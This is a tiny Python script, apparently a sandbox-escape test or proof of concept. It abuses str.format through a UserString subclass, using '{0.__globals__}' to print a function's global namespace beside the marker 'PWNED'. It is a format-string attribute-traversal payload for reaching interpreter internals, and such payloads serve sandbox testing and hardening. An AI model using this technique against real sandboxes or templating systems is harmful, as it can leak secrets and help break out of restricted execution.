# needs: collections
from collections import UserString
class U(UserString):
    def show(self, o):
        return super().format(o)
def f():
    pass
print("PWNED", U("{0.__globals__}").show(f))
